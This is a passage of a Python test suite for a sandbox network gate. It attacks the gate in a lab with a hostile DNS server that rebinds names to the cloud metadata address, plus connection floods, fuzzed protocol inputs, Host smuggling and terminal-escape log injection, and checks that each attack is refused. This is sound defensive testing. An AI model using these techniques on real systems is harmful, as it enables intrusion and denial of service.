    rr = []; own = b"\xc0\x0c"; ident = q[:2]; question = q[12:end]
    if kind == 1:
        if w == b"rebind": rr = [own + A("%(good)s" if n == 1 else "169.254.169.254")]
        if w == b"rebindlan": rr = [own + A("%(good)s" if n == 1 else "10.0.0.7")]
        if w == b"rebindself": rr = [own + A("%(good)s" if n == 1 else "203.0.113.2")]
        if w == b"owner": rr = [name(b"allowed.test") + A("%(evil)s")]
        if w == b"alias": rr = [own + struct.pack(">2HIH", 5, 1, 0, 11) + name(b"evil.test"), name(b"evil.test") + A("169.254.169.254")]
        if w == b"chain": rr = [name(b"c%%d.test" %% i if i else b"chain.test") + struct.pack(">2HIH", 5, 1, 0, len(name(b"c%%d.test" %% (i + 1)))) + name(b"c%%d.test" %% (i + 1)) for i in range(40)]
        if w == b"circle": rr = [own + struct.pack(">2HIH", 5, 1, 0, 2) + own]
        if w == b"pointer": rr = [b"\xc0\x20" + A("%(evil)s")] * 3
        if w == b"many": rr = [own + A("%(evil)s")] * 3000
        if w == b"badid": ident = bytes([q[0] ^ 1, q[1]]); rr = [own + A("%(evil)s")]
        if w == b"badname": question = name(b"other.test") + q[at + 1:end]; rr = [own + A("%(evil)s")]
        if w == b"short": rr = [own + struct.pack(">2HIH", 1, 1, 0, 3) + b"abc"]
        if w == b"zero": rr = [own + A("0.0.0.0")]
        if w == b"silent": return b""
    if kind == 28 and w == b"mapped6":
        rr = [own + struct.pack(">2HIH", 28, 1, 0, 16) + socket.inet_pton(socket.AF_INET6, a)
              for a in ("::ffff:10.0.0.7", "64:ff9b::a00:7", "2002:a00:7::", "fe80::1", "::1", "fd00:ec2::254", "::10.0.0.7", "2001:0:a00:7::")]
    return ident + struct.pack(">5H", 0x8180, 1, len(rr), 0, 0) + question + b"".join(rr)
def one(c):
    try:
        d = c.recv(4096); a = answer(d[2:]); c.sendall(struct.pack(">H", min(len(a), 65535)) + a[:65535])
    except OSError: pass
    c.close()
def tcp():
    t = socket.socket(); t.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    t.bind(("93.184.216.54", 53)); t.listen()
    while True: one(t.accept()[0])
threading.Thread(target=tcp, daemon=True).start()
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.bind(("93.184.216.54", 53))
while True:
    q, peer = u.recvfrom(4096)
    try:
        a = answer(q)
        if len(a) > 1400: a = a[:2] + struct.pack(">5H", 0x8380, 1, 0, 0, 0) + q[12:]; a = a[:12 + len(q) - 12]
        if a: u.sendto(a, peer)
    except Exception as e: print(e, flush=True)
"""


def test_hostile_name_server(case):
    """Rebinding between the questions, and answers to other questions."""
    lab = case.lab
    try:
        lab.net("ip", "addr", "add", "93.184.216.54/32", "dev", "lo")
    except subprocess.CalledProcessError:
        pass
    server = inside(case, REBINDER % {"good": GOOD, "evil": "93.184.216.67"})
    lab.wait(lambda: lab.listens("93.184.216.54", 53), "rebinder")
    words = ["owner", "alias", "chain", "circle", "pointer", "many", "badid",
             "badname", "short", "zero", "mapped6", "silent"]
    policy = lab.write("rebind.yaml", "version: 1\ndns: { upstream: [93.184.216.54] }\nallow: [%s]\n" %
                       ", ".join(w + ".test" for w in words + ["rebind", "rebindlan", "rebindself"]))
    run = attack(case, f"words = {words!r}" + r"""
re = "rebind", "rebindlan", "rebindself"
first = {w: udp(query(name(w.encode() + b".test")), 2)[-4:] for w in re}
def one(w):
    got = say((GW, PORT), f"GET http://{w}.test/ HTTP/1.1\r\nHost: {w}.test\r\nConnection: close\r\n\r\n".encode(), 0, timeout=14)
    print("REACHED" if b"200 OK" in got else "ok", w, got[:30])
ts = [threading.Thread(target=one, args=(w,)) for w in words]; [t.start() for t in ts]
time.sleep(6)  # what it was told is no longer remembered
for w in re:
    print(w, say((GW, PORT), f"GET http://{w}.test/ HTTP/1.1\r\nHost: {w}.test\r\n\r\n".encode(), 0, True)[:12])
    print(w, say((socket.inet_ntoa(first[w]), 80), f"GET / HTTP/1.1\r\nHost: {w}.test\r\n\r\n".encode(), 0)[:12])
[t.join() for t in ts]
""", allow=(), args=("--policy", policy))
    os.kill(server.pid, signal.SIGKILL)
    check(run.status == 0 and "REACHED" not in run.out, run)
    check(run.out.count("b'HTTP/1.1 502'") >= 6, run)
    check(run.denied("forbidden_address"), run)
    left = lab.packets("dst net 10.0.0.0/8 or dst host 169.254.169.254 or "
                       "dst host 93.184.216.67 or (dst host 203.0.113.2 and "
                       "tcp[13] = 2)")
    check(not left, left)


# -- leases and packets -----------------------------------------------------


def test_leases_are_of_one_port_and_name(case):
    """Neighbours of a leased address, its other ports, other ways to write it;
    a connection by the one name does not carry the other."""
    run = attack(case, r"""
a, b = socket.gethostbyname("cdn.test"), socket.gethostbyname("allowed.test")
print("same" if a == b else "differ")
ip = struct.unpack(">I", socket.inet_aton(a))[0]
def up(addr, port):
    try: dial((addr, port), 1).close(); return True
    except OSError: return False
near = [socket.inet_ntoa(struct.pack(">I", ip + d)) for d in range(-3, 8)]
print("open", [n for n in near if up(n, 443) and n not in (a, b)], [p for p in (1, 22, 81, 444, 3128, 8080, 65535) if up(a, p)])
h = hello("cdn.test")
print("cross", say((b, 443), h, timeout=1)[:1], say((b, 80), b"GET /host HTTP/1.1\r\nHost: cdn.test\r\n\r\n", 0, timeout=1)[:12])
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
try: s.bind((a, 5555)); print("BOUND")
except OSError: print("not bound")
""", allow=("cdn.test", "allowed.test"), proxy=False)
    check("differ" in run.out and "open [] []" in run.out, run)
    check("cross b'\\x15' b'HTTP/1.1 403'" in run.out and "not bound" in run.out, run)


def test_packet_flood_is_counted(case):
    """No dropped packet is missing from the log's counts, kinds beyond the table
    included; the gate serves on meanwhile."""
    run = attack(case, r"""
import subprocess
n = 0
s = [socket.socket(socket.AF_INET, socket.SOCK_DGRAM) for _ in range(8)]
end = time.time() + 2
while time.time() < end:
    for i in range(500):
        try: s[i % 8].sendto(b"x" * 100, ("8.8.%d.%d" % (i % 200, n // 500 % 200), 1 + (n + i) % 60000))
        except OSError: pass
    n += 500
print("sent", n)
print(subprocess.run(["curl", "-s", "-m", "5", "https://allowed.test/"], capture_output=True).stdout)
time.sleep(1.3)
""")
    check("hello" in run.out, run)
    sent = int(run.out.split("sent ")[1].split()[0])
    bypass = run.denied("bypass")
    counted = sum(r.get("count", 1) for r in bypass)
    print(f"       flood: {sent} sent, {counted} counted, {len(bypass)} records")
    check(len(bypass) < 2000 and counted > 0, (len(bypass), counted))
    check(counted >= sent * 0.9 or "lost" in json.dumps(bypass) or
          "more than" in json.dumps(bypass), (sent, counted, len(bypass)))
    silent(case)


# -- exhaustion -------------------------------------------------------------


def test_connection_flood(case):
    """600 connections, each with 30 kB of a head that never ends: a bounded
    gate, the rest refused and recorded, and afterwards all is as before."""
    process, log = case.start("python3", "-c", COMMON + r"""
import subprocess, resource
resource.setrlimit(resource.RLIMIT_NOFILE, (2000, min(4000, resource.getrlimit(resource.RLIMIT_NOFILE)[1])))
a = socket.gethostbyname("allowed.test")
print("before", flush=True); sys.stdin.readline()
held = []
for i in range(600):
    try:
        s = socket.socket(); s.settimeout(3); s.connect([(GW, PORT), (a, 80), (a, 7000)][i % 3])
        s.setblocking(False)
        try: s.send(b"GET http://allowed.test/ HTTP/1.1\r\nHost: allowed.test\r\n" + (b"X: " + b"y" * 1000 + b"\r\n") * 12)
        except OSError: pass
        held.append(s)
    except OSError: pass
print("held", len(held), flush=True); sys.stdin.readline()
[s.close() for s in held]
for i in range(40):
    r = subprocess.run(["curl", "-s", "-m", "3", "https://allowed.test/"], capture_output=True)
    if b"hello" in r.stdout: print("back", flush=True); break
    time.sleep(0.1)
sys.stdin.readline()
""", allow=("allowed.test", "allowed.test:7000"), stdin=subprocess.PIPE)

    def go():
        process.stdin.write("\n")
        process.stdin.flush()

    try:
        check(process.stdout.readline() == "before\n")
        gate = case.child(process, "gate")
        before = int(status(gate)["VmRSS"])
        go()
        line = process.stdout.readline()
        for _ in range(30):  # the gate takes them one at a time
            with open(log + "/audit.jsonl") as f:
                if "limit_connections" in f.read():
                    break
            time.sleep(0.1)
        during = int(status(gate)["VmRSS"])
        fds = len(os.listdir(f"/proc/{gate}/fd"))
        go()
        check(process.stdout.readline() == "back\n", line)
        check(case.child(process, "gate") == gate, "the gate died")
        for _ in range(30):  # refused ones linger a little
            after = len(os.listdir(f"/proc/{gate}/fd"))
            if after < 100:
                break
            time.sleep(0.2)
        print(f"       gate: {before} kB, {during} kB with {fds} fds, then {after}")
        check(during - before < 100000 and fds < 2000 and after < 100,
              (before, during, fds, after))
        go()
    finally:
        out, err = process.communicate(timeout=20)
    with open(log + "/audit.jsonl") as f:
        text = f.read()
    check("limit_connections" in text, text[-2000:])


def test_memory_does_not_grow(case):
    """Thousands of refusals of each kind."""
    process, _ = case.start("python3", "-c", COMMON + r"""
def work(k, n):
    for i in range(n):
        x = b"r%d-%d.evil.test" % (k, i)
        udp(query(name(x)), 0.05) if i % 2 else say((GW, PORT), b"CONNECT " + x + b":443 HTTP/1.1\r\n\r\n", 0, True, 1)
        if i % 4 == 0: say((GW, PORT), os.urandom(200), 0, True, 1)
        if i % 4 == 2: say((GW, PORT), b"\5\1\0\5\1\0\3\x09evil.test\1\xbb", 0, True, 1)
def round(n):
    ts = [threading.Thread(target=work, args=(k, n)) for k in range(4)]
    [t.start() for t in ts]; [t.join() for t in ts]
round(60); print("warm", flush=True); sys.stdin.readline()
round(400); print("done", flush=True); sys.stdin.readline()
""", stdin=subprocess.PIPE)
    check(process.stdout.readline() == "warm\n")
    gate = case.child(process, "gate")
    before = int(status(gate)["VmRSS"])
    process.stdin.write("\n")
    process.stdin.flush()
    check(process.stdout.readline() == "done\n")
    after = int(status(gate)["VmRSS"])
    check(case.child(process, "gate") == gate, "the gate died")
    process.communicate("\n", timeout=20)
    print(f"       gate: {before} kB, then {after} kB")
    check(case.sanitized or after - before < 2000, (before, after))
    silent(case)


def test_out_of_descriptors(case):
    """The gate without a descriptor left refuses, lives, and recovers."""
    process, _ = case.start("python3", "-c", COMMON + r"""
import subprocess
a = socket.gethostbyname("allowed.test")
print("ready", flush=True); sys.stdin.readline()
children = []
for k in range(5):
    child = os.fork()
    if not child:
        held = []
        for i in range(30):
            try: held.append(dial((a, 7000) if i % 4 else (GW, 53), 0.2))
            except OSError: pass
        udp(query(name(b"allowed.test")), 0.3)
        os._exit(0)
    children.append(child)
[os.waitpid(c, 0) for c in children]
for i in range(40):
    r = subprocess.run(["curl", "-s", "-m", "3", "https://allowed.test/"], capture_output=True)
    if b"hello" in r.stdout: print("back", flush=True); break
    time.sleep(0.2)
else: print("gone", flush=True)
""", allow=("allowed.test", "allowed.test:7000"), stdin=subprocess.PIPE,
        preexec_fn=lambda: resource.setrlimit(resource.RLIMIT_NOFILE, (64, 64)))
    check(process.stdout.readline() == "ready\n", process.stderr)
    gate = case.child(process, "gate")
    process.stdin.write("\n")
    process.stdin.flush()
    line = process.stdout.readline()
    check(case.child(process, "gate") == gate, "the gate died")
    process.communicate(timeout=30)
    check(line == "back\n", line)


def test_garbage_does_not_kill_the_gate(case):
    process, _ = case.start("python3", "-c", COMMON + r"""
import random
random.seed(7)
seeds = [hello("allowed.test"), b"GET http://allowed.test/ HTTP/1.1\r\nHost: allowed.test\r\nTransfer-Encoding: chunked\r\n\r\n3\r\nabc\r\n0\r\n\r\n",
         b"CONNECT allowed.test:443 HTTP/1.1\r\nHost: allowed.test\r\n\r\n" + hello("allowed.test"),
         b"\5\1\0\5\1\0\3\x0callowed.test\1\xbb" + hello("allowed.test")]
def mutate(d):
    d = bytearray(d)
    for _ in range(random.randrange(1, 6)):
        i = random.randrange(len(d)); k = random.randrange(4)
        if k == 0: d[i] = random.randrange(256)
        elif k == 1: del d[i:i + random.randrange(1, 9)]
        elif k == 2: d[i:i] = os.urandom(random.randrange(1, 9))
        else: d[i:i] = d[max(0, i - 20):i] * random.randrange(1, 50)
        if not d: d = bytearray(b"x")
    return bytes(d)
q = query(name(b"allowed.test"), counts=(1, 0, 0, 1), tail=b"\0\0\x29\x10\0\0\0\0\0\0\0")
def work():
    end = time.time() + 4
    while time.time() < end:
        i = random.randrange(6)
        if i == 4: udp(mutate(q), 0.02)
        elif i == 5: m = mutate(q); tcp(struct.pack(">H", len(m)) + m, 0.2)
        else:
            m = mutate(seeds[i]); c = random.randrange(len(m) + 1)
            say(random.choice([(GW, PORT), ("allowed.test", 443), ("allowed.test", 80), ("allowed.test", 7000)]), [m[:c], m[c:]], 0.002, True, 0.3)
ts = [threading.Thread(target=work) for _ in range(8)]; [t.start() for t in ts]
print("began", flush=True); [t.join() for t in ts]
print("done", flush=True); sys.stdin.readline()
""", allow=("allowed.test", "allowed.test:7000"), stdin=subprocess.PIPE)
    check(process.stdout.readline() == "began\n")
    gate = case.child(process, "gate")
    check(process.stdout.readline() == "done\n")
    check(case.child(process, "gate") == gate, "the gate died")
    process.communicate("\n", timeout=20)


def test_ledger_stopped(case):
    """A ledger that takes nothing: no byte goes out, whatever the door; the gate
    stays small; when it goes on, all goes on, and what was lost is said."""
    process, log = case.start("python3", "-c", COMMON + r"""
import subprocess
print("ready", flush=True); sys.stdin.readline()
def work(k):
    for i in range(700):
        udp(query(name(b"s%d-%d.evil.test" % (k, i))), 0.001)
        if i % 20 == 0: say((GW, PORT), b"GET http://allowed.test/stopped HTTP/1.1\r\nHost: allowed.test\r\n\r\n", 0, True, 0.1)
        if i % 20 == 1: udp(query(name(b"other.test")), 0.01)
ts = [threading.Thread(target=work, args=(k,)) for k in range(8)]; [t.start() for t in ts]; [t.join() for t in ts]
print("flooded", flush=True); sys.stdin.readline()
for i in range(40):
    r = subprocess.run(["curl", "-s", "-m", "3", "https://allowed.test/"], capture_output=True)
    if b"hello" in r.stdout: print("back", flush=True); break
    time.sleep(0.2)
else: print("gone", flush=True)
""", allow=("allowed.test", "other.test"), stdin=subprocess.PIPE)
    check(process.stdout.readline() == "ready\n")
    gate, ledger = case.child(process, "gate"), case.child(process, "ledger")
    seen = len(case.lab.packets("src host 203.0.113.2"))
    before = int(status(gate)["VmRSS"])
    os.kill(ledger, signal.SIGSTOP)
    try:
        process.stdin.write("\n")
        process.stdin.flush()
        check(process.stdout.readline() == "flooded\n")
        left = case.lab.packets("src host 203.0.113.2")[seen:]
        during = int(status(gate)["VmRSS"])
    finally:
        os.kill(ledger, signal.SIGCONT)
    process.stdin.write("\n")
    process.stdin.flush()
    line = process.stdout.readline()
    process.communicate(timeout=30)
    print(f"       gate: {before} kB, then {during} kB")
    left = [p for p in left if "ARP" not in p]
    check(not left, left[:10])
    check(line == "back\n" and during - before < 60000, (line, before, during))


def test_gate_killed_within_a_transfer(case):
    """What was under way ends; the lease is good for the new gate, and only for
    its own name."""
    process, log = case.start("python3", "-c", COMMON + r"""
a = socket.gethostbyname("cdn.test")
s = dial((a, 80)); s.sendall(b"GET /big HTTP/1.1\r\nHost: cdn.test\r\n\r\n"); s.recv(65536)
print("ready", flush=True); sys.stdin.readline()
got = rest(s)
print("ended" if len(got) < 1 << 30 else "whole", flush=True)
for i in range(50):
    r = say((a, 80), b"GET /host HTTP/1.1\r\nHost: cdn.test\r\nConnection: close\r\n\r\n", 0)
    if b"cdn.test\n" in r: print("back"); break
    time.sleep(0.1)
print(say((a, 80), b"GET /host HTTP/1.1\r\nHost: evilcdn.test\r\nConnection: close\r\n\r\n", 0)[:12])
""", allow=("cdn.test",), stdin=subprocess.PIPE)
    check(process.stdout.readline() == "ready\n")
    os.kill(case.child(process, "gate"), signal.SIGKILL)
    process.stdin.write("\n")
    process.stdin.flush()
    out, err = process.communicate(timeout=30)
    check("ended" in out and "back" in out and "b'HTTP/1.1 403'" in out, (out, err))


def test_log_flood_is_bounded(case):
    """What a sandbox can make us write: refusals of the longest kind, as fast as
    it can for two seconds."""
    run = attack(case, r"""
n = [0] * 8
def work(k, what):
    end = time.time() + 2
    while time.time() < end: say((GW, PORT), what, 0, True, 1); n[k] += 1
long = b"GET http://evil.test/" + b"x" * 15000 + b" HTTP/1.1\r\nHost: evil.test\r\n\r\n"
ts = [threading.Thread(target=work, args=(k, long if k % 2 else b"CONNECT evil.test:443 HTTP/1.1\r\n\r\n")) for k in range(8)]
[t.start() for t in ts]; [t.join() for t in ts]
print("refused", sum(n))
""")
    refused = int(run.out.split("refused ")[1])
    size = os.path.getsize(run.log + "/audit.jsonl")
    print(f"       log: {refused} refusals, {size} bytes")
    check(refused > 100 and size < 5000 * refused, (refused, size))
    silent(case)


def test_text_of_the_sandbox_is_no_text_of_ours(case):
    """Names and targets with escapes, line ends and odd UTF-8: each record is one
    line of valid JSON, and the terminal gets none of it."""
    run = attack(case, r"""
odd = [b"\x1b[2J", b"\xc2\x9b2J", b"\x9b2J", b"a\rb", b"a\nb", b'","x":"', b"\xff\xfe", b"\xe2\x80\xaeevil", b"\xed\xa0\x80", b"\0", b"\x7f", b"\\u0000", b"\xf5\x80\x80\x80"]
for o in odd:
    n = b"evil" + o + b".test"
    udp(query(name(n)), 0.1)
    for d in (b"CONNECT " + n + b":443 HTTP/1.1\r\n\r\n", b"GET http://" + n + b"/ HTTP/1.1\r\nHost: " + n + b"\r\n\r\n",
              b"GET http://evil.test/" + o + b" HTTP/1.1\r\nHost: evil.test\r\n\r\n", o + b" / HTTP/1.1\r\n\r\n",
              b"\5\1\0\5\1\0\3" + bytes([len(n)]) + n + b"\1\xbb"):
        say((GW, PORT), d, 0, False, 0.5)
    say(("allowed.test", 443), record(client_hello(sni(n))), 0, True, 0.5)
    say(("allowed.test", 80), b"GET / HTTP/1.1\r\nHost: " + n + b"\r\n\r\n", 0, True, 0.5)
print("tried")
""")
    check("tried" in run.out and len(run.denied("malformed")) > 20, run)
    with open(run.log + "/audit.jsonl", "rb") as f:
        text = f.read()
    for line in text.decode("utf-8").splitlines():
        json.loads(line)
    for what, shown in ("log", text.decode()), ("summary", run.err):
        bad = [c for c in shown if c != "\n" and (ord(c) < 32 or
               0x7f <= ord(c) < 0xa0 or 0x202a <= ord(c) <= 0x202e)]
        check(not bad, (what, bad))
    silent(case)


# -- serve ------------------------------------------------------------------


def test_serve_attacked(case):
    """Strangers, loops to itself by name and address, and the doors of 80 and
    443, where a name is all there is."""
    case.count += 1
    log = f"{case.lab.dir}/log-{case.who}-{case.count}"
    os.mkdir(log, 0o700)
    case.mine(log)
    process = subprocess.Popen(
        [*case.drop(), case.binary, "serve", "--log", log, "--proxy",
         "203.0.113.2:3199", "--dns", "203.0.113.2:5399", "--tls",
         "203.0.113.2:4439", "--http", "203.0.113.2:8099", "--client",
         "203.0.113.2/32", "--allow", "allowed.test", "--allow", "cdn.test",
         "--allow", "uplink.test:3199", "--allow", "loop.test:3199",
         "--permit", "203.0.113.0/30", "--permit", "127.0.0.0/8"],
        cwd=case.work, env=case.env(), text=True, stdout=subprocess.PIPE,
        stderr=subprocess.PIPE)
    code = COMMON + r"""
def show(w, x): print(w, x[:40])
p = ("203.0.113.2", 3199)
for n in b"allowed.test:443", b"uplink.test:3199", b"loop.test:3199", b"evil.test:443", b"203.0.113.2:3199", b"127.0.0.1:3199":
    show(n, say(p, b"CONNECT " + n + b" HTTP/1.1\r\nHost: " + n + b"\r\n\r\n", 0, False, 2))
show("metrics", say(p, b"GET /metrics HTTP/1.1\r\nHost: allowed.test\r\n\r\n", 0, True))
show("http", say(("203.0.113.2", 8099), b"GET /host HTTP/1.1\r\nHost: cdn.test\r\nConnection: close\r\n\r\n", 0))
show("http evil", say(("203.0.113.2", 8099), b"GET /host HTTP/1.1\r\nHost: evilcdn.test\r\nConnection: close\r\n\r\n", 0))
show("http next", say(("203.0.113.2", 8099), b"GET /host HTTP/1.1\r\nHost: cdn.test\r\n\r\nGET /host HTTP/1.1\r\nHost: evilcdn.test\r\nConnection: close\r\n\r\n", 0)[-40:])
show("http self", say(("203.0.113.2", 8099), b"GET / HTTP/1.1\r\nHost: uplink.test:3199\r\n\r\n", 0, True))
show("tls", say(("203.0.113.2", 4439), hello("allowed.test"), timeout=1))
show("tls evil", say(("203.0.113.2", 4439), hello("evilcdn.test"), timeout=1))
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1)
for n in b"allowed.test", b"evil.test":
    s.sendto(query(name(n)), ("203.0.113.2", 5399))
    try: show("dns " + n.decode(), bytes([s.recv(512)[3] & 15]))
    except OSError: print("dns no answer")
"""
    try:
        check("serving" in process.stderr.readline())
        mine = sh("python3", "-c", code)
        there = case.lab.net("python3", "-c", code)
    finally:
        process.terminate()
        process.communicate(timeout=20)
    with open(log + "/audit.jsonl") as f:
        text = f.read()
    lines = dict(l.split(" b'", 1) if " b'" in l else (l.split(' b"')[0], l)
                 for l in mine.splitlines())
    both = mine + "\n--- strangers\n" + there
    check("HTTP/1.1 200" in mine.splitlines()[0], both)
    for l in mine.splitlines()[1:7]:
        check("HTTP/1.1 4" in l or "HTTP/1.1 5" in l, both)
    check('"self"' in text, both)
    check("HTTP/1.1 200" in lines["http"] and "403" in lines["http evil"], both)
    check("evilcdn.test\\n" not in mine and "x15" in lines["tls evil"]
          and "x16" in lines["tls"], both)
    check("HTTP/1.1" not in there and "\\x16" not in there
          and "dns allowed.test b'\\x00'" not in there, both)
    silent(case)


def test_serve_on_all_addresses(case):
    """A name is answered with an address that clients can connect to, not with
    0.0.0.0, which to them is themselves."""
    case.count += 1
    log = f"{case.lab.dir}/log-{case.who}-{case.count}"
    os.mkdir(log, 0o700)
    case.mine(log)
    process = subprocess.Popen(
        [*case.drop(), case.binary, "serve", "--log", log, "--proxy",
         "0.0.0.0:3199", "--dns", "0.0.0.0:5399", "--client",
         "203.0.113.0/30", "--allow", "allowed.test"], cwd=case.work,
        env=case.env(), text=True, stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE)
    try:
        started = "serving" in process.stderr.readline()
        out = started and sh("dig", "@203.0.113.2", "-p", "5399", "+short",
                             "+tries=1", "+time=2", "allowed.test")
    finally:
        process.terminate()
        process.communicate(timeout=20)
    check(not started or "0.0.0.0" not in out, out)
